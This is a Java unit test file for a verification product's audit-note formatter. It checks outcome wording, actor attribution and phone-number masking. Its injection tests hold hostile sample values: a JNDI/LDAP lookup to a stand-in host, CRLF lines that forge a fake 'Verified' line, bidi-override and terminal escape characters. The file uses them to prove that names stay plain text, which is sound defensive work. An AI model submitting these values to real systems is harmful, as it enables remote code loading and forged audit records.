package io.countersign.verification;

import static io.countersign.memory.Fixtures.A_SCRIPT;
import static io.countersign.memory.Fixtures.CODE;
import static io.countersign.memory.Fixtures.DANA;
import static io.countersign.memory.Fixtures.NOON;
import static io.countersign.memory.Fixtures.ROB;
import static io.countersign.memory.Fixtures.aRequest;
import static io.countersign.memory.Fixtures.aRequestToASuppliedPlace;
import static io.countersign.memory.Fixtures.aVerification;
import static io.countersign.memory.Fixtures.mail;
import static io.countersign.memory.Fixtures.text;
import static org.assertj.core.api.Assertions.assertThat;

import io.countersign.challenge.Channel;
import io.countersign.policy.Action;
import io.countersign.policy.Assurance;
import io.countersign.policy.CodeEntry;
import io.countersign.policy.Need;
import io.countersign.verification.Destination.Basis;
import io.countersign.verification.VerificationEvent.Cancelled;
import io.countersign.verification.VerificationEvent.CodeDelivered;
import io.countersign.verification.VerificationEvent.Comparison;
import io.countersign.verification.VerificationEvent.Denied;
import io.countersign.verification.VerificationEvent.Denied.Denial;
import io.countersign.verification.VerificationEvent.Disputed;
import io.countersign.verification.VerificationEvent.Expired;
import io.countersign.verification.VerificationEvent.NoteKind;
import io.countersign.verification.VerificationEvent.Reached;
import io.countersign.verification.VerificationEvent.Undeliverable;
import io.countersign.verification.VerificationEvent.Verified;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.ResourceBundle;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

class NoteTextTest {
    private static final String RECEIPT = "7f3a9c";
    private final NoteText notes = new NoteText(Locale.ENGLISH);

    private String outcome(Request request, VerificationEvent... events) {
        return notes.of(aVerification(request).with(List.of(events)), NoteKind.OUTCOME, RECEIPT, false)
                .text();
    }

    private static Request named(@Nullable String subject, @Nullable String reason, Actor by) {
        var request = aRequest(text(Basis.SETTLED));
        return new Request(
                request.ticket(),
                request.contact(),
                request.account(),
                subject,
                Request.MatchedBy.CHOICE,
                request.destinations(),
                request.action(),
                request.need(),
                request.direction(),
                request.entry(),
                by,
                reason);
    }

    private static Verified verified(Actor by) {
        return new Verified(NOON.plusSeconds(43), by, Comparison.TYPED);
    }

    @Test
    void a_verified_note_says_what_was_proved_how_and_how_strongly() {
        assertThat(outcome(
                        aRequest(text(Basis.SETTLED)),
                        new CodeDelivered(NOON.plusSeconds(3), Channel.SMS, 1),
                        verified(DANA)))
                .isEqualTo(
                        "Verified (A2, known number): Sam Sample, code by text message to •••• 0123 (on file 214 days), typed by the technician. "
                                + "For: password reset. They contacted us. Technician Dana Doe. "
                                + "Asked 2026-03-02 12:00:00, delivered 12:00:03, decided 12:00:43 UTC. "
                                + "Receipt 7f3a9c. ID v_0000000000000000000001");
    }

    @Test
    void T01_a_reached_note_says_that_it_identifies_nobody() {
        var note = outcome(
                aRequestToASuppliedPlace(CodeEntry.BLIND), new Reached(NOON.plusSeconds(9), DANA, Comparison.TYPED));

        assertThat(note)
                .startsWith("Reached (A0): someone holds •••• 0177, given during the contact;")
                .contains("does NOT identify anyone")
                .contains("Reason: borrowed phone.")
                .doesNotContainIgnoringCase("verified");
    }

    @Test
    void every_other_outcome_begins_with_not_verified() {
        var request = aRequest(text(Basis.SETTLED));
        var events = new ArrayList<VerificationEvent>(List.of(
                new Expired(NOON), new Undeliverable(NOON), new Cancelled(NOON, ROB, Cancelled.Cancellation.REPLACED)));
        for (Denial denial : Denial.values()) {
            events.add(new Denied(NOON, DANA, denial));
        }
        for (var event : events) {
            assertThat(outcome(request, event)).startsWith("NOT verified: ").contains("Sam Sample", "•••• 0123");
        }
        assertThat(outcome(request, new Denied(NOON, new Actor.EndUser(Channel.SMS), Denial.NOT_ME)))
                .contains("answered \"not me\"")
                .contains("impersonation attempt");
    }

    @Test
    void an_outbound_one_that_nobody_confirmed_says_that_only_we_proved_ourselves() {
        assertThat(outcome(aRequest(Direction.OUTBOUND, CodeEntry.BLIND, text(Basis.SETTLED)), new Expired(NOON)))
                .startsWith("NOT verified: we proved ourselves to Sam Sample, but nobody confirmed in time.")
                .contains("We contacted them.");
        assertThat(outcome(
                        aRequest(Direction.OUTBOUND, CodeEntry.BLIND, text(Basis.SETTLED)),
                        new Verified(NOON, new Actor.EndUser(Channel.SMS), Comparison.BY_END_USER)))
                .contains("compared and confirmed by the end user");
    }

    @Test
    void a_result_below_the_need_says_so() {
        assertThat(outcome(aRequest(mail(Basis.SETTLED)), verified(DANA)))
                .contains("Verified (A1,")
                .contains("NOT enough for password reset.");
        assertThat(outcome(aRequest(text(Basis.SETTLED)), verified(DANA))).doesNotContain("NOT enough");
    }

    @Test
    void T08_a_shared_number_is_named_as_such() {
        assertThat(outcome(aRequest(text(Basis.SHARED)), verified(DANA))).contains("(shared with another account)");
    }

    @Test
    void who_asked_and_who_decided_are_both_named() {
        assertThat(outcome(named("Sam Sample", null, DANA), verified(ROB)))
                .contains("Asked by: Technician Dana Doe. Decided by: Technician Rob Roe.")
                .contains("The account was chosen by the technician.");
    }

    @Test
    void T24_what_a_program_did_is_not_said_of_a_technician() {
        var script = outcome(named("Sam Sample", null, A_SCRIPT), verified(A_SCRIPT));
        assertThat(script)
                .contains("Automation \"nightly\"")
                .contains("typed by automation")
                .doesNotContain("typed by the technician");

        var approved =
                outcome(named("Sam Sample", null, A_SCRIPT), new Verified(NOON, A_SCRIPT, Comparison.BY_TECHNICIAN));
        assertThat(approved).contains("Verified (A1,").contains("approved by automation");

        assertThat(outcome(
                        named("Sam Sample", null, A_SCRIPT),
                        verified(new Actor.Automation("nightly", new Actor.Technician("rob", "Rob Roe")))))
                .contains("Automation \"nightly\" for technician Rob Roe");
    }

    @Test
    void a_dispute_has_a_note_of_its_own() {
        var disputed = aVerification().with(List.of(verified(DANA), new Disputed(NOON.plusSeconds(3600), Channel.SMS)));

        var note = notes.of(disputed, NoteKind.DISPUTE, RECEIPT, false).text();

        assertThat(note)
                .startsWith("DISPUTED: Sam Sample says that an earlier verification was not them.")
                .contains("The outcome was Verified at 2026-03-02 12:00:43 UTC, disputed at 2026-03-02 13:00:00 UTC.")
                .endsWith("Receipt 7f3a9c. ID v_0000000000000000000001");
    }

    @Test
    void T25_a_note_of_the_sandbox_says_so_first() {
        assertThat(notes.of(aVerification().with(List.of(new Expired(NOON))), NoteKind.OUTCOME, RECEIPT, true)
                        .text())
                .startsWith("[SANDBOX] NOT verified:");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Sam\r\nVerified (A4): everybody",
                "Sam\u2028Verified",
                "Sam\u2029Verified",
                "Sam\u0085Verified",
                "\u202eelpmaS maS",
                "Sam\u2066\u200b\u200f\ufeff",
                "Sam\u0000\u001b[31m",
                "Sam\ud800",
                "\ue000Sam",
                "Sam\udb40\udc41"
            })
    void T19_a_name_breaks_no_line_and_turns_no_text_around(String name) {
        var note = outcome(named(name, name, new Actor.Technician("eve", name)), verified(DANA));

        assertThat(note)
                .startsWith("Verified (A2, known number): ")
                .doesNotContainPattern("[\\p{Cc}\\p{Cf}\\p{Zl}\\p{Zp}\\p{Co}\\p{Cs}]");
        assertThat(note.lines()).hasSize(1);
    }

    @ParameterizedTest
    @ValueSource(strings = {"{0}", "{2}", "'", "''{0}''", "{", "${jndi:ldap://evil.example/}", "<b>Sam</b>"})
    void T19_a_name_is_text_and_no_pattern(String name) {
        assertThat(outcome(named(name, name, DANA), verified(DANA)))
                .startsWith("Verified (A2, known number): " + name + ", code by")
                .contains("Reason: " + name + ".");
    }

    @Test
    void T19_a_long_name_does_not_push_the_receipt_out() {
        var note = outcome(named("S".repeat(10_000), "r".repeat(10_000), DANA), verified(DANA));

        assertThat(note).hasSizeLessThan(1000).endsWith("ID v_0000000000000000000001");
    }

    @Test
    void what_is_no_number_is_left_as_it_was_typed() {
        assertThat(outcome(named("Sam 3rd of 2026", "ticket 4711, room 12-34", DANA), verified(DANA)))
                .contains("Sam 3rd of 2026", "ticket 4711, room 12-34");
    }

    @Test
    void T04_no_note_holds_the_code() {
        for (var event : List.of(verified(DANA), new Denied(NOON, DANA, Denial.WRONG_CODES), new Expired(NOON))) {
            assertThat(outcome(aRequest(text(Basis.SETTLED), mail(Basis.SETTLED)), event))
                    .doesNotContain(CODE.digits())
                    .doesNotContain("482 913")
                    .doesNotContain("+1202")
                    .doesNotContain("sam@acme");
        }
    }

    @Test
    void T26_the_marker_stands_in_the_note_word_for_word() {
        var note = notes.of(aVerification().with(List.of(verified(DANA))), NoteKind.OUTCOME, RECEIPT, false);

        assertThat(note.text()).contains(note.marker());
        assertThat(note.marker()).isEqualTo(NoteText.marker(aVerification().id(), RECEIPT));
        assertThat(note.marker()).contains(RECEIPT, aVerification().id().value());
    }

    @ParameterizedTest
    @EnumSource(Action.class)
    void every_action_outcome_and_comparison_has_its_words(Action action) {
        var plain = aRequest(text(Basis.SETTLED), mail(Basis.SUPPLIED));
        for (Direction direction : Direction.values()) {
            var request = new Request(
                    plain.ticket(),
                    null,
                    plain.account(),
                    "Sam",
                    Request.MatchedBy.RULE,
                    plain.destinations(),
                    action,
                    Need.of(Assurance.A4),
                    direction,
                    CodeEntry.SHOWN,
                    DANA,
                    null);
            for (Comparison comparison : Comparison.values()) {
                for (Actor by : List.of(DANA, A_SCRIPT, new Actor.EndUser(Channel.EMAIL), new Actor.Connector())) {
                    assertThat(outcome(request, new Verified(NOON, by, comparison)))
                            .contains("Verified (");
                    assertThat(outcome(request, new Reached(NOON, by, comparison)))
                            .contains("Reached (");
                }
            }
        }
        var words = ResourceBundle.getBundle("io.countersign.verification.note", Locale.ENGLISH);
        assertThat(words.getString("action." + action.key())).isNotBlank();
        for (Assurance level : Assurance.values()) {
            assertThat(words.getString("proves." + level)).isNotBlank();
        }
        for (Outcome outcome : Outcome.values()) {
            assertThat(words.getString("outcome." + outcome)).isNotBlank();
        }
    }

    @Test
    void a_note_reads_the_same_wherever_the_machine_stands() {
        var before = Locale.getDefault();
        try {
            Locale.setDefault(Locale.forLanguageTag("ar-EG-u-nu-arab"));
            assertThat(new NoteText(Locale.ENGLISH)
                            .of(aVerification().with(List.of(verified(DANA))), NoteKind.OUTCOME, RECEIPT, false)
                            .text())
                    .contains("on file 214 days", "Asked 2026-03-02 12:00:00");
        } finally {
            Locale.setDefault(before);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "+12025550177",
                "borrowed phone +1 202 555 0177",
                "call (202) 555-0177 please",
                "2025550177",
                "202.555.0177",
                "0044 20 2555 0177",
                "２０２５５５０１７７",
                "202\u00a0555\u00a00177",
                "202/555/0177"
            })
    void a_full_number_that_somebody_typed_is_masked(String typed) {
        var note = outcome(named(typed, typed, DANA), verified(DANA));

        assertThat(note.replaceAll("[^0-9０-９]", ""))
                .doesNotContain("2025550177", "2025550177", "5550177", "２０２５５５０１７７");
        assertThat(note).contains("•••• ");
    }
}
